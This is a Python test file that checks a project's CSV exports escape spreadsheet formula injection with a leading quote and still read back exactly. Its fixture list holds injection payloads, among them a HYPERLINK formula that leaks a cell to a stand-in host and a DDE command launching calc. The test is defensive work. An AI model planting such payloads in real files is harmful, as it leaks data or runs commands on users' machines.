"""Writing contract tables and other CSV exports: data for people's spreadsheets, never
formulas, and still read back exactly by epitrace."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pyarrow as pa

from epitrace.formats.readers import read_table
from epitrace.formats.schemas import table
from epitrace.formats.writers import (
    SpreadsheetSafeWriter,
    conform,
    spreadsheet_safe,
    spreadsheet_text,
    write_table,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cafe")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def stays(place_names: list[str | None]) -> pa.Table:
    n = len(place_names)
    start = dt.datetime(2020, 2, 10, 9, tzinfo=dt.UTC)
    rows = pa.table(
        {
            "person_ref": ["-P1"] * n,
            "seq": list(range(1, n + 1)),
            "start": [start + dt.timedelta(hours=i) for i in range(n)],
            "end": [start + dt.timedelta(hours=i, minutes=30) for i in range(n)],
            "lat": [-33.5] * n,
            "lon": [-70.25] * n,
            "radius_m": [150.0] * n,
            "place_name": place_names,
            "sources": ["telecom+card"] * n,
            "confidence": [0.5] * n,
        }
    )
    return conform(rows, table("stays"))


def test_finding_7_exported_csv_cells_are_never_live_formulas(tmp_path: Path) -> None:
    """Issue #17, finding 7: a merchant named ``=HYPERLINK(...)`` reached stays.csv and
    contacts.csv as a live formula. Text cells of the exports that begin with = + - @ tab
    or carriage return get a leading quote (OWASP); numbers stay numbers; epitrace reads
    its own exports back to the very same values."""
    names = [*FORMULAS, "'quoted already", "'", "Cafe -1", None]
    written = write_table(stays(names), tmp_path, "stays", "csv")
    rows = list(csv.DictReader(io.StringIO(written.read_text(encoding="utf-8"), newline="")))
    for row in rows:
        assert not row["place_name"].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row["person_ref"] == "'-P1"  # an identifier is text too
        assert (row["lat"], row["lon"]) == ("-33.5", "-70.25")  # numbers are not touched
    assert rows[0]["place_name"] == "'" + FORMULAS[0]
    assert [r["place_name"] for r in rows[6:]] == ["''quoted already", "''", "Cafe -1", ""]
    assert read_table(written).raise_for_problems().equals(stays(names))

    # Agencies' and simulated tables are the contract's data, written and read as given.
    merchants = pa.table(
        {
            "merchant_id": ["M1"],
            "name": [FORMULAS[0]],
            "category": ["cafe"],
            "address": ["-"],
            "lat": [35.8],
            "lon": [128.6],
        }
    )
    path = write_table(merchants, tmp_path, "merchants", "csv")
    assert read_table(path).raise_for_problems().column("name").to_pylist() == [FORMULAS[0]]

    # The helpers, for every other CSV a person may open (hotspot_cases.csv, the hub's).
    for text in [*FORMULAS, "'", "'=x", "plain", "", "1.5"]:
        assert spreadsheet_text(spreadsheet_safe(text)) == text
    assert spreadsheet_safe("-1.5") == "'-1.5" and spreadsheet_safe("1.5") == "1.5"
    sink = io.StringIO()
    writer = SpreadsheetSafeWriter(csv.DictWriter(sink, fieldnames=["case_id", "p_value"]))
    writer.writeheader()
    writer.writerow({"case_id": "=1+1", "p_value": -1.5})
    SpreadsheetSafeWriter(csv.writer(sink)).writerow(["@x", -2, None])
    assert sink.getvalue().splitlines() == ["case_id,p_value", "'=1+1,-1.5", "'@x,-2,"]
